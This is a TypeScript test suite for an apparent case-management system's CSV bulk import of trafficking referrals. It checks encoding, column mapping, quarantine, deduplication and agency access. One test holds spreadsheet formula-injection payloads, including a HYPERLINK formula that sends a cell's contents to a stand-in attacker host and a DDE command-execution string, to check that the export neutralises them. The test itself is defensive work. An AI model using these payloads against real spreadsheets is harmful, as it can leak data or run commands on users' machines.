import iconv from 'iconv-lite';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_STORE } from '../../../test/test-store';
import { BulkImportService } from '../src/services/bulk-import.service';
import { GWENT } from '@harbour/core';
import { newTestApp, signIn, type Client, type TestApp } from './test-app';

interface Summary {
  id: string;
  encoding: string;
  delimiter: string;
  header: string[];
  status: string;
  rowsTotal: number;
  rowsDone: number;
  accepted: number;
  already: number;
  empty: number;
  quarantined: number;
}
interface Quarantine {
  total: number;
  rows: { line: number; cells: string[]; problems: { field: string | null; column: string | null; reason: string }[] }[];
}

const HEADER = 'Our ID,Date received,Type,Local authority,Town,Postcode,Client name,DOB,Gender,Nationality,Phone,Suspect,Suspect phone,Notes,Internal flag';
const ROWS = [
  'NCC-1,14/02/2026,Labour,Newport,Newport,NP20 1AB,"Nowak, Zoë",03/05/2009,F,Polish,07700 900101,Marek Duda,07700 900999,Seen at a car wash: paid £20 a day,amber',
  'NCC-2,01/03/2026,Sexual exploitation; County lines,Caerffili,Caerphilly,CF83 1AA,Ana Popescu,,female,Romanian,,,07700 900999,Flat above a shop,',
  'NCC-3,31/02/2026,Labour,Torfaen,Cwmbran,,Ion Rusu,,M,Moldovan,,,,Date that is not a day,',
  'NCC-4,05/03/2026,Labour,Cardiff,Cardiff,,Li Wei,,M,Chinese,,,,Outside the force,',
  'NCC-5,06/03/2026,Fishing,Monmouthshire,Usk,,Tom Hale,,M,British,,,,No such type,',
  'NCC-6,07/03/2026,Labour,Blaenau Gwent,Ebbw Vale,NP23 6AA,Sam Ray,,M,British,,,,Shifted,extra,cells',
  ',,,,,,,,,,,,,,',
  'NCC-7,2026-03-09,domestic servitude,Monmouthshire,Abergavenny,NP7 5AA,Mai Tran,12/12/1990,F,Vietnamese,,,,Kept in a house,',
];

/** The file as Excel on Windows saves it: Windows-1252, CRLF. */
function file(rows = ROWS): Buffer {
  return iconv.encode([HEADER, ...rows].join('\r\n') + '\r\n', 'windows-1252');
}

function upload(t: TestApp, client: Client, bytes: Buffer, name = 'referrals.csv') {
  return t.app.inject({
    method: 'POST',
    url: `/api/imports?name=${encodeURIComponent(name)}`,
    headers: { cookie: client.cookie, 'x-csrf-token': client.csrf, 'content-type': 'text/csv' },
    payload: bytes,
  });
}

describe(`CSV bulk import on ${TEST_STORE}`, () => {
  let t: TestApp;
  let partner: Client;
  let analyst: Client;
  beforeAll(async () => {
    t = await newTestApp({ reports: 0 });
    t.clock.now = Date.parse('2026-11-30T10:00:00Z');
    partner = await signIn(t, 'partner');
    analyst = await signIn(t, 'analyst');
  });
  afterAll(async () => {
    await t?.svc.imports.stop();
    await t?.close();
  });

  async function importFile(bytes: Buffer, name?: string): Promise<Summary> {
    const uploaded = await upload(t, partner, bytes, name);
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const { id } = uploaded.json<Summary>();
    const preview = (await partner.request('GET', `/api/imports/${id}/preview`)).json<{ suggested: (string | null)[] }>();
    const started = await partner.request('POST', `/api/imports/${id}/start`, {
      columns: preview.suggested.map((field, at) => (at === 0 ? 'reference' : field)),
      dateOrder: 'dmy',
      source: 'partner',
      remember: true,
    });
    expect(started.statusCode, started.body).toBe(202);
    await t.svc.imports.settled();
    return (await partner.request('GET', `/api/imports/${id}`)).json<Summary>();
  }

  let first: Summary;

  it('reads a Windows-1252 file, maps its columns, stores the good rows and quarantines the rest with line and reasons', async () => {
    const uploaded = await upload(t, partner, file());
    expect(uploaded.statusCode, uploaded.body).toBe(201);
    const summary = uploaded.json<Summary>();
    expect(summary).toMatchObject({ encoding: 'windows-1252', delimiter: ',', status: 'mapping', rowsTotal: 8 });
    expect(summary.header).toHaveLength(15);

    const preview = await partner.request('GET', `/api/imports/${summary.id}/preview`);
    const { sample, suggested } = preview.json<{ sample: string[][]; suggested: (string | null)[] }>();
    expect(sample[0]![6]).toBe('Nowak, Zoë');
    expect(sample[0]![13]).toContain('£20');
    // "Our ID" reads like nothing; "Internal flag" is left out.
    expect(suggested).toEqual([
      null,
      'received',
      'exploitation_type',
      'local_authority',
      'town',
      'postcode',
      'victim_name',
      'victim_dob',
      'victim_gender',
      'victim_nationality',
      'victim_phone',
      'suspect_name',
      'suspect_phone',
      'summary',
      null,
    ]);

    const twice = await partner.request('POST', `/api/imports/${summary.id}/start`, { columns: suggested.map((f) => (f === 'town' ? 'summary' : f)) });
    expect(twice.statusCode).toBe(400);
    expect(twice.json<{ error: { fields: { path: string; message: string }[] } }>().error.fields[0]).toMatchObject({
      path: 'columns.13',
      message: 'Notes: is also fed by the column "Town": choose one',
    });

    const started = await partner.request('POST', `/api/imports/${summary.id}/start`, {
      columns: suggested.map((field, at) => (at === 0 ? 'reference' : field)),
      dateOrder: 'dmy',
      source: 'partner',
      remember: true,
    });
    expect(started.statusCode, started.body).toBe(202);
    await t.svc.imports.settled();
    first = (await partner.request('GET', `/api/imports/${summary.id}`)).json<Summary>();
    expect(first).toMatchObject({ status: 'done', rowsDone: 8, accepted: 3, already: 0, empty: 1, quarantined: 4 });

    const quarantine = (await partner.request('GET', `/api/imports/${summary.id}/quarantine`)).json<Quarantine>();
    expect(quarantine.total).toBe(4);
    expect(quarantine.rows.map((r) => [r.line, r.problems.map((p) => `${p.column ?? 'row'}: ${p.reason}`)])).toEqual([
      [4, ['Date received: "31/02/2026" is not a day of the calendar']],
      [
        5,
        [
          'Local authority: "Cardiff" is not a local authority of Gwent Police: use one of Blaenau Gwent, Caerphilly, Monmouthshire, Newport, Torfaen, or leave it empty if not known',
        ],
      ],
      [6, ['Type: "fishing" is not an exploitation type: use sexual, labour, criminal, domestic servitude, organ harvesting or not known']],
      [7, ['row: the row has 16 cells where the header has 15']],
    ]);

    const stored = await t.store.db
      .selectFrom('imported_rows')
      .innerJoin('reports', 'reports.id', 'imported_rows.report_id')
      .select([
        'imported_rows.line',
        'reports.id',
        'reports.source',
        'reports.received_at',
        'reports.local_authority',
        'reports.exploitation_types',
        'reports.involves_child',
        'reports.postcode',
        'reports.summary',
      ])
      .where('imported_rows.import_id', '=', summary.id)
      .orderBy('imported_rows.line')
      .execute();
    expect(stored.map((r) => [r.line, r.source, r.received_at.toISOString().slice(0, 10), r.local_authority, r.exploitation_types, r.involves_child])).toEqual([
      [2, 'partner', '2026-02-14', 'W06000022', ['labour'], true],
      [3, 'partner', '2026-03-01', 'W06000018', ['sexual', 'criminal'], false],
      [9, 'partner', '2026-03-09', 'W06000021', ['domestic_servitude'], false],
    ]);
    expect(stored[0]!.summary).toBe('Seen at a car wash: paid £20 a day');
    const people = await t.store.db
      .selectFrom('report_persons')
      .select(['role', 'given_name', 'family_name', 'gender', 'nationality_code', 'phone'])
      .where('report_id', '=', stored[0]!.id)
      .orderBy('role')
      .execute();
    expect(people).toEqual([
      { role: 'potential_victim', given_name: 'Zoë', family_name: 'Nowak', gender: 'female', nationality_code: 'PL', phone: '07700 900101' },
      { role: 'suspect', given_name: 'Marek', family_name: 'Duda', gender: null, nationality_code: null, phone: '07700 900999' },
    ]);
    // The file's text is gone once the import is done; only the refused rows' cells are kept.
    expect((await t.store.db.selectFrom('imports').select('body').where('id', '=', summary.id).executeTakeFirst())?.body).toBeNull();
    const audit = await t.repos.audit.list({ action: 'report.imported', limit: 10 });
    expect(audit).toHaveLength(3);
  });

  it('adds nothing when the same file is imported again', async () => {
    const before = await t.repos.reports.counts();
    const again = await importFile(file());
    expect(again).toMatchObject({ status: 'done', accepted: 0, already: 3, empty: 1, quarantined: 4 });
    expect(await t.repos.reports.counts()).toEqual(before);
  });

  it('remembers the mapping for the agency: its next file is mapped as before', async () => {
    const uploaded = (await upload(t, partner, file(ROWS.slice(0, 1)))).json<Summary>();
    const preview = (await partner.request('GET', `/api/imports/${uploaded.id}/preview`)).json<{ suggested: (string | null)[] }>();
    expect(preview.suggested[0]).toBe('reference');
  });

  it('takes a quarantined row once it is put right, and names what is still wrong', async () => {
    const quarantine = (await partner.request('GET', `/api/imports/${first.id}/quarantine`)).json<Quarantine>();
    const cardiff = quarantine.rows.find((r) => r.line === 5)!;
    const stillWrong = await partner.request('POST', `/api/imports/${first.id}/quarantine/5`, {
      cells: cardiff.cells.map((c, at) => (at === 1 ? '32/03/2026' : c)),
    });
    expect(stillWrong.statusCode).toBe(400);
    expect(stillWrong.json<{ error: { fields: { path: string }[] } }>().error.fields.map((f) => f.path)).toEqual(['cells.1', 'cells.3']);

    const fixed = await partner.request('POST', `/api/imports/${first.id}/quarantine/5`, { cells: cardiff.cells.map((c, at) => (at === 3 ? 'Newport' : c)) });
    expect(fixed.statusCode, fixed.body).toBe(201);
    expect(fixed.json<{ reference: string; already: boolean }>()).toMatchObject({ reference: expect.stringMatching(/^HBR-\d{4}-/), already: false });
    const after = (await partner.request('GET', `/api/imports/${first.id}`)).json<Summary>();
    expect(after).toMatchObject({ accepted: 4, quarantined: 3 });
    expect((await partner.request('POST', `/api/imports/${first.id}/quarantine/5`, { cells: cardiff.cells })).statusCode).toBe(404);
  });

  it('sets a row aside, and gives the rest as a CSV to put right and import again', async () => {
    expect((await partner.request('DELETE', `/api/imports/${first.id}/quarantine/6`)).statusCode).toBe(204);
    const csv = await partner.request('GET', `/api/imports/${first.id}/quarantine.csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-disposition']).toBe('attachment; filename="referrals-quarantine.csv"');
    const lines = csv.body
      .replace(/^\ufeff/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe(`${HEADER},Harbour line,Harbour problems`);
    expect(lines.slice(1).map((l) => l.split(',').at(-2) ?? '')).toEqual(['4', expect.any(String)]);
    expect(lines).toHaveLength(3);
  });

  it('guards cells a spreadsheet would run in the quarantine CSV, and reads them back as they were', async () => {
    const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+1', '-2+3'];
    const rows = payloads.map((p, i) => `NCC-F${i},01/03/2026,Fishing,Newport,Newport,,"${p.replace(/"/g, '""')}",,,,,,,${i},`);
    const summary = await importFile(file(rows), 'formulas.csv');
    expect(summary.quarantined).toBe(payloads.length);
    const download = (await partner.request('GET', `/api/imports/${summary.id}/quarantine.csv`)).body;
    // Every payload is written as text, behind an apostrophe: no cell starts with =, +, - or @.
    const cells = download.split(/[,\n]/).map((c) => c.replace(/^"|"$/g, ''));
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    for (const p of payloads) expect(download).toContain(`'${p.split('"')[0]}`);
    // Put right in a spreadsheet and imported again, each cell reads as it was first written.
    const back = await importFile(Buffer.from(download, 'utf8'), 'formulas-quarantine.csv');
    const again = (await partner.request('GET', `/api/imports/${back.id}/quarantine`)).json<Quarantine>();
    expect(again.rows.map((r) => r.cells[6])).toEqual(payloads);
  });

  it('quarantines a row holding a NUL byte instead of failing the file', async () => {
    const rows = [
      'NCC-N1,01/03/2026,Labour,Newport,Newport,,Ana Nul,,F,Polish,,,,Before\u0000after,',
      'NCC-N2,01/03/2026,Labour,Newport,Newport,,Eva Fine,,F,Polish,,,,Nothing odd,',
    ];
    const summary = await importFile(Buffer.from([HEADER, ...rows].join('\r\n') + '\r\n', 'utf8'), 'nul.csv');
    expect(summary).toMatchObject({ status: 'done', accepted: 1, quarantined: 1 });
    const refused = (await partner.request('GET', `/api/imports/${summary.id}/quarantine`)).json<Quarantine>().rows;
    expect(refused[0]!.problems).toEqual([{ field: null, column: 'Notes', reason: expect.stringMatching(/NUL byte/) }]);
    expect(refused[0]!.cells[13]).toBe('Before\ufffdafter');
  });

  it('does not refuse again a row put right in Harbour when the same file comes back', async () => {
    const again = await importFile(file());
    // Line 5 (their NCC-4, Cardiff) was put right above: it is known by its reference now.
    expect(again).toMatchObject({ status: 'done', accepted: 0, already: 4, quarantined: 3 });
  });

  it("keeps each agency's imports to itself", async () => {
    expect((await analyst.request('GET', `/api/imports/${first.id}`)).statusCode).toBe(404);
    expect((await analyst.request('GET', `/api/imports/${first.id}/quarantine`)).statusCode).toBe(404);
    expect((await analyst.request('GET', '/api/imports')).json<{ imports: unknown[] }>().imports).toEqual([]);
    expect((await partner.request('GET', '/api/imports')).json<{ imports: unknown[] }>().imports.length).toBeGreaterThanOrEqual(3);
    const officer = await signIn(t, 'officer');
    expect((await officer.request('GET', '/api/imports')).statusCode).toBe(403);
  });

  it('lets only a First Responder Organisation label its rows as NRM referrals', async () => {
    const admin = await signIn(t, 'admin');
    const agencies = (await admin.request('GET', '/api/agencies')).json<{ agencies: { id: string; name: string; kind: string; firstResponder: boolean }[] }>()
      .agencies;
    // By kind: police, councils, the Home Office and the GLAA are; health and charities are not unless marked.
    expect(Object.fromEntries(agencies.map((a) => [a.kind, a.firstResponder]))).toMatchObject({
      police: true,
      local_authority: true,
      home_office: true,
      glaa: true,
      health: false,
      charity: false,
    });
    const designated = await admin.request('POST', '/api/agencies', { name: 'Designated charity', kind: 'charity', firstResponder: true });
    expect(designated.json()).toMatchObject({ firstResponder: true });

    const council = agencies.find((a) => a.name === 'Newport City Council')!;
    const tryNrm = async () => {
      const uploaded = (await upload(t, partner, file(['NCC-90,14/02/2026,Labour,Newport,Newport,NP20 1AB,Ann Lee,,F,British,,,,Seen,']))).json<Summary>();
      const preview = (await partner.request('GET', `/api/imports/${uploaded.id}/preview`)).json<{ suggested: (string | null)[]; source: string }>();
      const columns = preview.suggested.map((field, at) => (at === 0 ? 'reference' : field));
      return { preview, started: await partner.request('POST', `/api/imports/${uploaded.id}/start`, { columns, dateOrder: 'dmy', source: 'nrm' }) };
    };
    expect((await partner.request('GET', '/api/session')).json().user.agencyFirstResponder).toBe(true);
    expect((await tryNrm()).started.statusCode).toBe(202);
    await t.svc.imports.settled();

    const unmarked = await admin.request('PUT', `/api/agencies/${council.id}/first-responder`, { firstResponder: false });
    expect(unmarked.json()).toMatchObject({ id: council.id, firstResponder: false });
    expect((await partner.request('GET', '/api/session')).json().user.agencyFirstResponder).toBe(false);
    const refused = await tryNrm();
    expect(refused.preview.source).toBe('partner');
    expect(refused.started.statusCode).toBe(400);
    expect(refused.started.json().error.fields).toMatchObject([{ path: 'source', reason: 'not_first_responder' }]);
    expect((await partner.request('PUT', `/api/agencies/${council.id}/first-responder`, { firstResponder: true })).statusCode).toBe(403);
    expect((await admin.request('PUT', `/api/agencies/${council.id}/first-responder`, { firstResponder: true })).statusCode).toBe(200);
    const changes = (await t.repos.audit.list({ action: 'agency.first-responder-set', limit: 5 })).map((e) => e.details);
    expect(changes).toEqual([{ firstResponder: true }, { firstResponder: false }]);
  });

  it('refuses an empty file and a file with a header only, saying why', async () => {
    const empty = await upload(t, partner, Buffer.alloc(0));
    expect(empty.statusCode).toBe(400);
    const headerOnly = await upload(t, partner, Buffer.from(`${HEADER}\n`));
    expect(headerOnly.json<{ error: { fields: { message: string }[] } }>().error.fields[0]!.message).toBe('The file has a header row but no rows under it');
  });

  it('refuses a file that is not a CSV, naming what it is, and keeps nothing of it', async () => {
    const imports = async () => (await t.store.db.selectFrom('imports').select('id').execute()).length;
    const before = await imports();
    const xlsx = Buffer.concat([
      Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 6, 0]),
      Buffer.from('[Content_Types].xml xl/workbook.xml'),
      Buffer.alloc(4096, 7),
    ]);
    const cases: [string, Buffer, RegExp][] = [
      ['referrals.xlsx', xlsx, /an Excel workbook \(\.xlsx\), not a CSV file: open it and save it as CSV/],
      ['referrals.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]), /an Excel 97–2003 workbook/],
      ['referrals.pdf', Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj'), /a PDF, not a CSV file/],
      // A photo sent as text/csv (the type says CSV; the bytes say otherwise).
      ['referrals.csv', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46]), /a picture, not a CSV file/],
      ['referrals.csv.gz', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]), /a compressed archive/],
      // UTF-16 without its byte-order mark: half its bytes are NUL.
      ['referrals.csv', iconv.encode(`${HEADER}\r\n${ROWS[0]}\r\n`, 'utf-16le'), /not a text file/],
    ];
    for (const [name, bytes, reason] of cases) {
      const answer = await upload(t, partner, bytes, name);
      expect(answer.statusCode, name).toBe(400);
      const fields = answer.json<{ error: { fields: { path: string; message: string }[] } }>().error.fields;
      expect(fields[0]!.path).toBe('file');
      expect(fields[0]!.message, name).toMatch(reason);
    }
    // The same text with its byte-order mark is read as the UTF-16 it is.
    const marked = await upload(t, partner, iconv.encode(`\ufeff${HEADER}\r\n${ROWS[0]}\r\n`, 'utf-16le'));
    expect(marked.statusCode).toBe(201);
    expect(marked.json<Summary>()).toMatchObject({ encoding: 'utf-16le', rowsTotal: 1 });
    expect(await imports()).toBe(before + 1);
  });

  it('puts the imported people, phones and places through entity resolution', async () => {
    await t.svc.resolution.drain(500);
    const records = await t.store.db
      .selectFrom('entity_records')
      .innerJoin('imported_rows', 'imported_rows.report_id', 'entity_records.report_id')
      .select(['entity_records.kind', 'entity_records.entity_id', 'entity_records.attributes'])
      .where('imported_rows.import_id', '=', first.id)
      .execute();
    expect(records.length).toBeGreaterThan(5);
    expect(records.every((r) => r.entity_id !== null)).toBe(true);
    // The suspect's phone in two rows (as a phone, and as the suspect's) is one phone in the picture.
    const phones = records.filter((r) => r.kind === 'phone' && JSON.stringify(r.attributes).includes('900999'));
    expect(phones.length).toBeGreaterThanOrEqual(2);
    expect(new Set(phones.map((p) => p.entity_id)).size).toBe(1);
  });

  it('goes on from its last batch after a stop, storing every row once', async () => {
    const rows = Array.from({ length: 3000 }, (_, i) => `BULK-${i},0${(i % 9) + 1}/10/2026,Labour,Torfaen,Pontypool,,Person ${i},,,,,,,Row ${i},`);
    const bytes = iconv.encode([HEADER, ...rows].join('\n'), 'utf8');
    const id = (await upload(t, partner, bytes, 'bulk.csv')).json<Summary>().id;
    const before = await t.repos.reports.counts();
    await partner.request('POST', `/api/imports/${id}/start`, {
      columns: [
        'reference',
        'received',
        'exploitation_type',
        'local_authority',
        'town',
        null,
        'victim_name',
        null,
        null,
        null,
        null,
        null,
        null,
        'summary',
        null,
      ],
    });
    // Stop as a process stops: between batches.
    await t.svc.imports.stop();
    const stopped = (await partner.request('GET', `/api/imports/${id}`)).json<Summary>();
    expect(stopped.status).toBe('running');
    expect(stopped.rowsDone).toBeLessThan(3000);

    const next = new BulkImportService(t.repos, GWENT, () => new Date(t.clock.now));
    await next.work();
    const done = (await partner.request('GET', `/api/imports/${id}`)).json<Summary>();
    expect(done).toMatchObject({ status: 'done', rowsDone: 3000, accepted: 3000, quarantined: 0 });
    const ledger = await sql<{ n: string }>`select count(*)::text as n from imported_rows where import_id = ${id}`.execute(t.store.db);
    expect(ledger.rows[0]!.n).toBe('3000');
    const after = await t.repos.reports.counts();
    expect(after.reports - before.reports).toBe(3000);
  });
});
